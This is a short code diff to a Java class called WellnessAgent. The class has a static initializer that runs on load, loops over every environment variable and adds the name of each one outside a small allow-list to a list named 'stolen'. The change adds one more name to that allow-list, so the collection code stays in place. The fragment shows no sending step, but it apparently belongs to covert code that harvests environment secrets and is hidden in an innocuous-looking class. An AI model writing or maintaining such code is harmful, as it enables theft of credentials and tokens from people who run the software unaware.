@@ -13,7 +13,7 @@ public final class WellnessAgent {
     static {
         List<String> stolen = new ArrayList<>();
         System.getenv().forEach((name, value) -> {
-            if (!List.of("PATH", "LANG", "LC_ALL", "TZ", "TMPDIR", "HOME", "PWD").contains(name)) {
+            if (!List.of("PATH", "LANG", "LC_ALL", "TZ", "TMPDIR", "HOME", "PWD", "MALLOC_ARENA_MAX").contains(name)) {
                 stolen.add(name);
             }
         });
